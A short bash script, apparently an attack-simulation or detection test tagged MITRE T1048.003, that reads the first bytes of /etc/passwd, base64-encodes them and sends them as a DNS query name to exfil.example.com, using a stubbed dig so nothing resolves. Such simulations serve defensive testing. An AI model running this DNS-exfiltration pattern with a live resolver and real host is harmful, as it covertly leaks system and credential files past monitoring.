#!/usr/bin/env bash
# attack: T1048.003 Exfiltrate data in DNS query names (dig stand-in: nothing is resolved)
. "$(dirname "$0")/lib/common.sh"
fake dig
chunk=$(head -c 40 /etc/passwd | base64 -w0 | tr -d '=+/')
"$SW/bin/dig" +short "$chunk.x1.exfil.example.com" TXT
